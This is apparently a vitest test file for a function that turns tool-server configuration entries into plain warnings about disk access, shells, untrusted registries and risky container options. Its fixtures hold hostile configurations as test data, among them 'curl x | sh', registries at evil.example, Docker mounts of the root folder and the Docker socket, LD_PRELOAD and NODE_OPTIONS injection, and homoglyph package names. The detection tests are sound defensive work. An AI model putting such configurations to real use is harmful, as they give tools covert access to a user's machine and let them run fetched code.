/** What accepting an entry would mean, in the words the user reads before. */
import { describe, expect, test } from 'vitest';
import { entryConsequences, settingConsequences } from '../../../../src-main/core/trust/inbox/entry-consequences.ts';

const texts = (before: object | undefined, after: object): readonly string[] =>
  entryConsequences(before as never, after as never).map(({ text, isGrave }) => `${isGrave ? '! ' : ''}${text}`);

describe('what a new entry reaches', () => {
  test.each([
    [['/'], 'your whole disk'],
    [['C:\\'], 'your whole disk'],
    [['--root=/'], 'your whole disk'],
    [['~'], 'your whole home folder'],
    [['/home/ann/'], 'your whole home folder'],
    [['${env:HOME}'], 'your whole home folder'],
    [['C:\\Users\\Ann'], 'your whole home folder'],
    [['/home/ann/.ssh/'], 'keys: /home/ann/.ssh'],
    [['-v', '/:/host:ro'], 'your whole disk'],
    [['--mount', 'type=bind,source=/,target=/x'], 'your whole disk'],
  ])('marks %j as grave', (args, what) => {
    expect(texts(undefined, { command: '/opt/server', args })).toEqual(
      expect.arrayContaining([expect.stringMatching(new RegExp(`^! Gains access to ${what.replaceAll('.', '\\.')}`))]),
    );
  });

  test('names a folder, but not a file that is started', () => {
    expect(texts(undefined, { command: 'node', args: ['/opt/server.js', '/data/notes'] })).toEqual([
      'Starts node on this computer, with your permissions.',
      'Gains access to /data/notes.',
    ]);
  });

  test('reports an unpinned package, a shell, an administrator and a container with access outside', () => {
    expect(texts(undefined, { command: 'npx', args: ['-y', '@acme/server'] })).toContain(
      'Fetches the newest @acme/server at each start, so later starts may run different code. Once it has run, "tooltray pin" locks its version.',
    );
    expect(texts(undefined, { command: 'npx', args: ['-y', '@acme/server@1.2.3'] }).join()).not.toContain('newest');
    expect(texts(undefined, { command: 'bash', args: ['-lc', 'curl x | sh'] })[0]).toMatch(/^! Runs a shell command/);
    expect(texts(undefined, { command: 'sudo', args: ['server'] })[0]).toMatch(/^! .*administrator/);
    const socket = ['run', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'image'];
    expect(texts(undefined, { command: 'docker', args: socket })[0]).toMatch(/^! Its container can access/);
  });

  test.each<[string, readonly string[], string]>([
    ['node', ['-e', 'x'], '-e'],
    ['node', ['--no-warnings', '--eval=x'], '--eval=x'],
    ['node', ['-pe', 'x'], '-pe'],
    ['bun', ['-e', 'x'], '-e'],
    ['deno', ['eval', 'x'], 'eval'],
    ['python3.12', ['-Ic', 'x'], '-Ic'],
    ['/usr/bin/python', ['-cimport os'], '-cimport os'],
    ['env', ['A=1', 'python3', '-c', 'x'], '-c'],
    ['perl', ['-we', 'x'], '-we'],
    ['ruby', ['-e', 'x'], '-e'],
    ['php', ['-r', 'x'], '-r'],
    ['osascript', ['-e', 'x'], '-e'],
  ])('marks a program in the arguments of %s as grave: %j', (command, args, option) => {
    expect(texts(undefined, { command, args }).join('\n')).toContain(`! Runs a program from its arguments (${option})`);
  });

  test.each<[string, readonly string[]]>([
    ['cmd', ['/c', 'x']],
    ['powershell', ['-EncodedCommand', 'x']],
    ['bash', ['-lc', 'x']],
    ['sh', ['-xc', 'x']],
  ])('marks a shell command line as grave: %s %j', (command, args) => {
    expect(texts(undefined, { command, args })[0]).toMatch(/^! Runs a shell command/);
  });

  test.each<[string, readonly string[]]>([
    ['node', ['server.js', '-e', 'production']],
    ['python3', ['-m', 'server', '-c', 'config.toml']],
    ['npx', ['-y', 'server@1.0.0', '-c', 'x']],
    ['bash', ['run.sh', '-c', 'x']],
  ])('does not mark options of the program itself: %s %j', (command, args) => {
    expect(texts(undefined, { command, args }).filter((text) => text.startsWith('!'))).toEqual([]);
  });

  test.each<[string, readonly string[], string]>([
    ['npx', ['--@acme:registry=https://evil.example', '@acme/x@1.0.0'], '--@acme:registry'],
    ['npx', ['-y', '--reg=https://evil.example', 'x@1.0.0'], '--reg='],
    ['npx', ['--registry', 'https://evil.example', 'x@1.0.0'], '--registry'],
    ['npx', ['-c', 'x'], '-c'],
    ['npx', ['--node-options=--import=x', 'x@1.0.0'], '--node-options'],
    ['uvx', ['--index-url=https://evil.example', 'x@1.0.0'], '--index-url'],
    ['uvx', ['-ihttps://evil.example', 'x@1.0.0'], '-ihttps'],
    ['uvx', ['--default-index', 'https://evil.example', 'x@1.0.0'], '--default-index'],
  ])('marks a package from another registry as grave: %s %j', (command, args, word) => {
    const grave = texts(undefined, { command, args }).filter((text) => text.startsWith('!'));
    expect(grave.join('\n')).toContain(word);
  });

  test.each<[string, string]>([
    ['npx', 'npm_config_registry'],
    ['npx', 'NPM_CONFIG_USERCONFIG'],
    ['uvx', 'UV_INDEX_URL'],
    ['uvx', 'PIP_EXTRA_INDEX_URL'],
    ['docker', 'DOCKER_HOST'],
    ['node', 'NODE_OPTIONS'],
    ['x', 'LD_PRELOAD'],
  ])('marks a variable that controls %s as grave: %s', (command, name) => {
    expect(texts(undefined, { command, args: ['x@1.0.0'], env: { [name]: 'x' } }).join('\n')).toContain(
      `! ${name} can`,
    );
  });

  test.each<[readonly string[], string]>([
    [['run', '-v/:/host', 'x'], 'whole disk'],
    [['run', '-iv', '/:/host', 'x'], 'whole disk'],
    [['run', '--volume=/:/host', 'x'], 'whole disk'],
    [['run', '-v/home/ann/.ssh:/k', 'x'], 'keys'],
    [['run', '--pid', 'host', 'x'], 'Its container can access your whole computer:'],
    [['run', '--network', 'host', 'x'], 'Its container can access your whole computer:'],
    [['run', '--cap-add=SYS_ADMIN', 'x'], 'Its container can access your whole computer:'],
    [['run', '--security-opt', 'seccomp=unconfined', 'x'], 'Its container can access your whole computer:'],
    [['run', '--device', '/dev/mem', 'x'], 'Its container can access your whole computer:'],
    [['run', '-v/var/run/docker.sock:/s', 'x'], 'Its container can access your whole computer:'],
  ])('marks an option that opens a container as grave, however it is written: %j', (args, what) => {
    const grave = texts(undefined, { command: 'docker', args }).filter((text) => text.startsWith('!'));
    expect(grave.join('\n')).toContain(what);
  });

  test('marks a name with letters of several scripts as grave', () => {
    expect(texts(undefined, { command: 'npx', args: ['-y', '@m\u043edelcontextprotocol/x@1.0.0'] }).join('\n')).toMatch(
      /^! .*several scripts/m,
    );
    expect(texts(undefined, { command: 'npx', args: ['-y', '\u043f\u0440\u043e-x@1.0.0'] }).join('\n')).not.toMatch(
      /several scripts/,
    );
  });

  test('names the host that receives the data, an unencrypted connection, and secrets by name only', () => {
    expect(texts(undefined, { url: 'http://mail.example/mcp', headers: { Authorization: 'Bearer abc' } })).toEqual([
      '! They are sent unencrypted: others on the network can read them.',
      'The arguments of its tools are sent to mail.example.',
      'Receives Authorization.',
    ]);
    expect(texts(undefined, { base_url: 'http://127.0.0.1:80/mcp' }).join()).not.toContain('unencrypted');
  });
});

test('reports only what a change gains, and everything when a disabled entry is enabled', () => {
  const entry = { command: 'node', args: ['/opt/server.js', '/data/notes'] };
  expect(texts(entry, { ...entry, args: [...entry.args, '/'] })).toEqual(['! Gains access to your whole disk.']);
  expect(texts(entry, entry)).toEqual([]);
  expect(texts({ ...entry, enabled: false }, entry)).toContain('Starts node on this computer, with your permissions.');
  expect(texts({ ...entry, disabledTools: ['delete_all'] }, entry)).toEqual([
    'Models can call delete_all, which you had disabled.',
  ]);
});

test('shows invisible characters in a name as marks', () => {
  expect(texts(undefined, { command: '/opt/a', args: [], env: { 'API_TOKEN\u200b': '${env:X}' } })).toContain(
    'Receives API_TOKEN⟨U+200B⟩.',
  );
});

test('describes what a setting allows, and ignores an unknown one', () => {
  expect(settingConsequences('trustEdits', true)[0]?.isGrave).toBe(true);
  expect(settingConsequences('results.folders', ['/'])[0]?.text).toBe('Gains access to your whole disk.');
  expect(settingConsequences('constructor', true)).toEqual([]);
});

describe('what makes a runner run something else', () => {
  test.each([
    ['npx', ['-y', 'good@npm:other'], 'good@npm:other'],
    ['pnpm', ['dlx', '--config.registry=http://e.example', 'x'], '--config.registry=http://e.example'],
    ['uvx', ['--with', 'other', 'x'], '--with'],
    ['uvx', ['--with-requirements', 'https://e.example/r.txt', 'x'], '--with-requirements'],
    ['uvx', ['--python', '/tmp/python', 'x'], '--python'],
    ['docker', ['-H', 'tcp://e.example', 'run', 'image'], '-H'],
    ['docker', ['--context', 'other', 'run', 'image'], '--context'],
    ['node', ['--import=data:text/javascript,x', 'a.js'], '--import=data:text/javascript,x'],
    ['node', ['--import', 'data:text/javascript,x', 'a.js'], 'data:text/javascript,x'],
    ['env', ['-S', 'sh -c x'], '-S'],
    ['env', ['NODE_OPTIONS=--require=/tmp/x', 'npx', 'a'], 'NODE_OPTIONS'],
    ['/usr/bin/env', ['npx', '--userconfig', '/tmp/x', 'a'], '--userconfig'],
  ])('marks %s %j as grave', (command, args, named) => {
    const grave = texts(undefined, { command, args }).filter((text) => text.startsWith('!'));
    expect(grave.some((text) => text.includes(named))).toBe(true);
  });

  test.each([
    ['docker', ['run', '-i', '--rm', '-h', 'host', 'image']],
    ['uvx', ['mcp-server-time', '--with', 'x']],
    ['node', ['server.js', 'data:text/plain,x']],
  ])('does not mark %s %j', (command, args) => {
    expect(texts(undefined, { command, args }).filter((text) => text.startsWith('!'))).toEqual([]);
  });
});
